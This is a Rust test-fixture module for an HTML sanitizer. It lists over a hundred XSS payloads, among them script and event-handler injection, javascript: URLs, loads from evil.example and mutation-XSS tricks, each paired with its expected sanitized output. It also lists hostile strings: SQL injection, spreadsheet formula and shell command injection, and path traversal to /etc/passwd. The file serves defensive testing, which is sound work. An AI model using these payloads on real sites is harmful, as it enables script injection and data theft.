//! Texts that want to do harm, of this project's own making, and those of the data beside the repository.

use super::{shared, shared_cases};

/// What is seen of most attacks.
const WORDS: &str = "paragraph: Words.";

/// Markup that would run, load, send or hide something in a page that takes it as it comes, and what is seen of it when it is
/// read as HTML. Where a script would run it is called `steal()`.
pub const ATTACKS: &[(&str, &str)] = &[
    // Scripts.
    ("<script>steal()</script>Words.", WORDS),
    ("<ScRiPt>steal()</sCrIpT >Words.", WORDS),
    ("<script src=https://evil.example/x.js></script>Words.", WORDS),
    ("<script/src='data:text/javascript,steal()'></script>Words.", WORDS),
    ("<script\u{C}type=module>steal()</script>Words.", WORDS),
    ("<script>steal()//", ""),
    ("<script>if (a < b) '</script>'; steal()</script>Words.", "paragraph: '; steal()Words."),
    ("<script><!--<script>steal()</script>--></script>Words.", WORDS),
    ("<scr<script>ipt>steal()</scr</script>ipt>Words.", "paragraph: ipt>steal()ipt>Words."),
    ("<scr\0ipt>steal()</scr\0ipt>Words.", "paragraph: steal()Words."),
    ("<noscript><p title='</noscript><img src=x onerror=steal()>'>Words.</noscript>", WORDS),
    ("<svg><script>steal()</script></svg>Words.", WORDS),
    ("<svg><script href='data:,steal()'/></svg>Words.", WORDS),
    ("<math><script>steal()</script></math>Words.", WORDS),
    ("<template><script>steal()</script><img src=x onerror=steal()></template>Words.", WORDS),
    ("<p><iframe srcdoc='<script>steal()</script>'></iframe>Words.", WORDS),
    // Handlers of events.
    ("<img src=x onerror=steal()>Words.", WORDS),
    ("<img/src='x'/onerror='steal()'>Words.", WORDS),
    ("<img src=x onerror\n=\nsteal()>Words.", WORDS),
    ("<img src=`x` onerror=steal()>Words.", WORDS),
    ("<img src=x:steal() onerror=eval(src)>Words.", WORDS),
    ("<p onclick='steal()' onmouseover=steal()>Words.</p>", WORDS),
    ("<p title='a'onclick='steal()'>Words.</p>", WORDS),
    ("<p style=animation-name:x onanimationstart=steal()>Words.</p>", WORDS),
    ("<p contenteditable autofocus onfocus=steal()>Words.", WORDS),
    ("<body onload=steal()>Words.", WORDS),
    ("<svg onload=steal()></svg>Words.", WORDS),
    ("<svg/onload=steal()>Words.", WORDS),
    ("<details open ontoggle=steal()>Words.</details>", WORDS),
    ("<dialog open oncancel=steal()>Words.</dialog>", WORDS),
    ("<input autofocus onfocus=steal()>Words.", WORDS),
    ("<video onerror=steal()><source src=x></video>Words.", WORDS),
    ("<audio autoplay src=https://evil.example/a.mp3 onplay=steal()>Words.", ""),
    ("<marquee onstart=steal()>Words.</marquee>", WORDS),
    ("<x-a onclick=steal() is=y slot=z part=w>Words.</x-a>", WORDS),
    ("\"><img src=x onerror=steal()>Words.", "paragraph: \">Words."),
    ("'-->]]></title></style></textarea><svg onload=steal()></svg>Words.", "paragraph: '-->]]>Words."),
    // Addresses.
    ("<a href='javascript:steal()'>Words</a>", "paragraph: Words"),
    ("<a href='JaVaScRiPt:steal()'>Words</a>", "paragraph: Words"),
    ("<a href=' &#1; javascript:steal()'>Words</a>", "paragraph: Words"),
    ("<a href='java\tscript:steal()'>Words</a>", "paragraph: Words"),
    ("<a href='java&#10;script:steal()'>Words</a>", "paragraph: Words"),
    ("<a href='&#106;&#97;&#x76;ascript&#58;steal()'>Words</a>", "paragraph: Words"),
    ("<a href='javascript&colon;steal()'>Words</a>", "paragraph: Words"),
    ("<a href='javascript://example.org/%0Asteal()'>Words</a>", "paragraph: Words"),
    ("<a href='data:text/html,<script>steal()</script>'>Words</a>", "paragraph: Words"),
    ("<a href='data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+'>Words</a>", "paragraph: Words"),
    ("<a href='vbscript:steal()'>Words</a>", "paragraph: Words"),
    ("<a href='blob:https://evil.example/1'>Words</a>", "paragraph: Words"),
    ("<a href='file:///etc/passwd'>Words</a>", "paragraph: Words"),
    ("<a href='//evil.example/'>Words</a>", "paragraph: Words"),
    ("<a href='\\\\evil.example\\x'>Words</a>", "paragraph: Words"),
    ("<a href='https:/\\evil.example'>Words</a>", "paragraph: Words"),
    ("<a href='https://bank.example@evil.example/'>Words</a>", "paragraph: Words"),
    ("<a href='https://example.org/\u{202E}gpj.exe'>Words</a>", "paragraph: Words"),
    ("<a href='https://example.org/&#0;'>Words</a>", "paragraph: [Words](https://example.org/�)"),
    (
        "<a href='https://example.org/&quot;onclick=steal()'>Words</a>",
        "paragraph: [Words](https://example.org/\"onclick=steal())",
    ),
    (
        "<a href='https://example.org/' ping='https://evil.example/' onclick=steal()>Words</a>",
        "paragraph: [Words](https://example.org/)",
    ),
    (
        "<a href='mailto:ida@example.org?body=%0D%0ABcc:x'>Words</a>",
        "paragraph: [Words](mailto:ida@example.org?body=%0D%0ABcc:x)",
    ),
    ("<base href='javascript:steal()//'><a href=x>Words</a>", "paragraph: Words"),
    ("<svg><a xlink:href='javascript:steal()'><text>Words</text></a></svg>", "paragraph: Words"),
    ("<math href='javascript:steal()'><mi>Words</mi></math>", "paragraph: Words"),
    ("<form action='javascript:steal()'><button formaction='javascript:steal()'>Go</button></form>Words.", WORDS),
    ("<img usemap=#m><map name=m><area href='javascript:steal()'></map>Words.", WORDS),
    ("<isindex prompt=x action='javascript:steal()'>Words.", WORDS),
    // What loads or leads away by itself.
    ("<meta http-equiv=refresh content='0;url=javascript:steal()'>Words.", WORDS),
    ("<meta http-equiv=refresh content='0;url=https://evil.example/'>Words.", WORDS),
    ("<link rel=stylesheet href=https://evil.example/x.css>Words.", WORDS),
    ("<link rel=preconnect href=https://evil.example/>Words.", WORDS),
    ("<iframe src='javascript:steal()'></iframe>Words.", WORDS),
    ("<frameset onload=steal()><frame src='javascript:steal()'></frameset>", ""),
    ("<object data='data:text/html,<script>steal()</script>'></object>Words.", WORDS),
    ("<embed src='javascript:steal()'>Words.", WORDS),
    ("<portal src=https://evil.example/></portal>Words.", WORDS),
    ("<img src=https://evil.example/pixel.gif srcset='https://evil.example/2 2x'>Words.", WORDS),
    ("<p style='background:url(https://evil.example/)'>Words.", WORDS),
    ("<p style='width:expression(steal())'>Words.", WORDS),
    ("<style>@import 'https://evil.example/x.css'; p { background: url(https://evil.example/) }</style>Words.", WORDS),
    ("<?xml-stylesheet href='javascript:steal()'?>Words.", WORDS),
    // Where one element's text is another one's markup.
    ("<style><img src=x onerror=steal()></style>Words.", WORDS),
    ("<title><img src=x onerror=steal()></title>Words.", WORDS),
    ("<textarea><img src=x onerror=steal()></textarea>Words.", WORDS),
    ("<textarea></textarea><img src=x onerror=steal()>Words.", WORDS),
    ("<xmp><img src=x onerror=steal()></xmp>Words.", "paragraph: <img src=x onerror=steal()>\nparagraph: Words."),
    ("<plaintext><img src=x onerror=steal()>", "paragraph: <img src=x onerror=steal()>"),
    ("<!--><img src=x onerror=steal()>-->Words.", "paragraph: -->Words."),
    ("<!-- --!><img src=x onerror=steal()>Words. -->", "paragraph: Words. -->"),
    ("<!--[if gte IE 4]><script>steal()</script><![endif]-->Words.", WORDS),
    ("<![CDATA[<img src=x onerror=steal()>]]>Words.", "paragraph: ]]>Words."),
    (
        "<svg><![CDATA[</svg><img src=x onerror=steal()>]]></svg>Words.",
        "paragraph: </svg><img src=x onerror=steal()>Words.",
    ),
    ("<math><mi><style><!--</style></mi></math><p title='--><img src=x onerror=steal()>'>Words.", WORDS),
    ("<svg><p><style><a title='</style><img src=x onerror=steal()>'>Words.", "paragraph: '>Words."),
    ("<select><option><style></option></select><img src=x onerror=steal()></style>Words.", ""),
    ("<table><tr><script>steal()</script><td onclick=steal()>Words.</table>", WORDS),
    // Names that a page's own code may fall over.
    ("<form id=a><input name=parentNode><input name=attributes></form>Words.", WORDS),
    ("<img name=getElementById><img name=cookie>Words.", WORDS),
    ("<p id=__proto__ class=constructor data-annotation=x>Words.", WORDS),
    // Entities, and bytes in other clothes.
    ("&lt;script&gt;steal()&lt;/script&gt;", "paragraph: <script>steal()</script>"),
    ("&amp;lt;script&amp;gt;steal()", "paragraph: &lt;script&gt;steal()"),
    ("&#60img src=x onerror=steal()&#62", "paragraph: <img src=x onerror=steal()>"),
    ("&#0;&#x110000;&#xD800;&notit;&unknown;", "paragraph: ���¬it;&unknown;"),
    ("+ADw-script+AD4-steal()+ADw-/script+AD4-", "paragraph: +ADw-script+AD4-steal()+ADw-/script+AD4-"),
    ("\u{FF1C}script\u{FF1E}steal()\u{FF1C}/script\u{FF1E}", "paragraph: ＜script＞steal()＜/script＞"),
    ("%3Cscript%3Esteal()%3C/script%3E", "paragraph: %3Cscript%3Esteal()%3C/script%3E"),
    ("\\x3cscript\\x3esteal()\\x3c/script\\x3e", "paragraph: \\x3cscript\\x3esteal()\\x3c/script\\x3e"),
    // Other readers' markup.
    ("[Words](javascript:steal())", "paragraph: [Words](javascript:steal())"),
    ("[Words](<java\nscript:steal()>)", "paragraph: [Words]()"),
    ("![Words](x 'onerror=steal()')", "paragraph: ![Words](x 'onerror=steal()')"),
    ("[Words][x]\n\n[x]: data:text/html,<script>steal()</script>", "paragraph: [Words][x] [x]: data:text/html,"),
    ("<javascript:steal()>", ""),
    ("<https://evil.example/\"onclick=steal()>", ""),
    ("`<script>`steal()`</script>`", "paragraph: ``"),
    ("{{steal()}} ${steal()} <%= steal() %> #{steal()}", "paragraph: {{steal()}} ${steal()} <%= steal() %> #{steal()}"),
];

/// Texts that break what counts, cuts, sorts, names or prints.
pub const STRINGS: &[&str] = &[
    "",
    " ",
    "\t\n\u{B}\u{C}\r\u{85}\u{A0}\u{1680}\u{2028}\u{2029}\u{3000}",
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e309",
    "0x7FFFFFFF",
    "9007199254740993",
    "1,000.50 or 1.000,50",
    "__proto__",
    "constructor.prototype",
    "hasOwnProperty",
    "'; DROP TABLE articles; --",
    "1 OR 1=1",
    "=HYPERLINK(\"https://evil.example/\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%s%n%x%d",
    "$(touch x); `touch x` | tee && true",
    "../../../../etc/passwd",
    "C:\\con\\con",
    "CON.txt",
    "a/b\\c:d*e?f\"g<h>i|j",
    "\\\\\\\"\\'\\`",
    "“‘„‚«‹›»’”",
    "((((([[[[[{{{{{",
    "<<<<<>>>>>",
    "&&&&&;;;;;",
    "…………。。。？？？",
    "👩‍👩‍👧‍👦👍🏽🇩🇪🇫🇷🏴\u{E0067}\u{E0062}\u{E007F}1️⃣",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30A}",
    "\u{301}a",
    "ﬁ ǆ ß İ ı ŉ ΐ",
    "Å Å Å",
    "שלום \u{202E}abc\u{202C} עולם",
    "\u{2067}a\u{2066}b\u{2069}",
    "مرحبا ١٢٣ بالعالم",
    "日本語 한국어 ไทย नमस्ते",
    "𝒯𝑒𝓍𝓉 𝟙𝟚𝟛",
    "\u{200B}\u{200C}\u{200D}\u{2060}\u{FEFF}",
    "a\u{FEFF}\u{FE00}\u{E0100}\u{E01EF}b",
    "\u{FFFD}\u{FFFC}\u{FFFE}\u{FFFF}",
    "\u{D7FF}\u{E000}\u{10FFFF}",
    "\0",
    "a\0b\u{1}c\u{1B}[31md\u{7F}e\u{9B}31m",
    "---\ntitle: x\n---",
    "Content-Type: text/html\r\n\r\n<b>x</b>",
];

/// Characters that cannot be seen, that turn the text around, that end lines, or that are none (UAX #9, UTS #39).
pub fn control_characters() -> impl Iterator<Item = char> {
    const RANGES: &[(char, char)] = &[
        // C0, DEL and C1.
        ('\0', '\u{1F}'),
        ('\u{7F}', '\u{9F}'),
        // Hyphen, grapheme joiner, Arabic letter mark, Hangul and Khmer fillers, Mongolian separator.
        ('\u{AD}', '\u{AD}'),
        ('\u{34F}', '\u{34F}'),
        ('\u{61C}', '\u{61C}'),
        ('\u{115F}', '\u{1160}'),
        ('\u{17B4}', '\u{17B5}'),
        ('\u{180B}', '\u{180F}'),
        // Of no width, marks of direction, ends of lines and paragraphs, embeddings and overrides.
        ('\u{200B}', '\u{200F}'),
        ('\u{2028}', '\u{202E}'),
        // Joiners, invisible operators, isolates, deprecated controls.
        ('\u{2060}', '\u{206F}'),
        ('\u{3164}', '\u{3164}'),
        ('\u{FDD0}', '\u{FDEF}'),
        ('\u{FE00}', '\u{FE0F}'),
        ('\u{FEFF}', '\u{FEFF}'),
        ('\u{FFA0}', '\u{FFA0}'),
        ('\u{FFF0}', '\u{FFFF}'),
        // Controls of notation, tags, more selectors, the last two of the last plane.
        ('\u{1D173}', '\u{1D17A}'),
        ('\u{E0000}', '\u{E007F}'),
        ('\u{E0100}', '\u{E01EF}'),
        ('\u{10FFFE}', '\u{10FFFF}'),
    ];
    RANGES.iter().flat_map(|(first, last)| *first..=*last)
}

/// Own texts of both kinds.
pub fn texts() -> impl Iterator<Item = String> {
    let attacks = ATTACKS.iter().map(|(attack, _)| attack);
    attacks.chain(STRINGS).map(|text| (*text).to_owned())
}

/// Those beside the repository.
pub fn shared_texts() -> impl Iterator<Item = String> {
    let files = ["blns", "owasp_xss_filter_evasion", "dompurify_expect"];
    files.into_iter().flat_map(|name| {
        let cases = shared_cases(&format!("bad-input/{name}.json"));
        assert!(cases.len() > 100, "{name}");
        cases
    })
}

/// The characters beside the repository: groups of single code points and of ranges, `202A` and `FE00-FE0F`.
pub fn shared_control_characters() -> Vec<char> {
    let file = shared("bad-input/control_chars.json");
    let codes = file["groups"].as_object().unwrap().values().flat_map(|group| group.as_array().unwrap());
    let code = |text: &str| u32::from_str_radix(text, 16).unwrap_or_else(|problem| panic!("{text}: {problem}"));
    let range = |text: &str| {
        let (first, last) = text.split_once('-').unwrap_or((text, text));
        code(first)..=code(last)
    };
    let chars: Vec<char> = codes.flat_map(|text| range(text.as_str().unwrap())).filter_map(char::from_u32).collect();
    assert!(chars.len() > 400, "{}", chars.len());
    chars
}
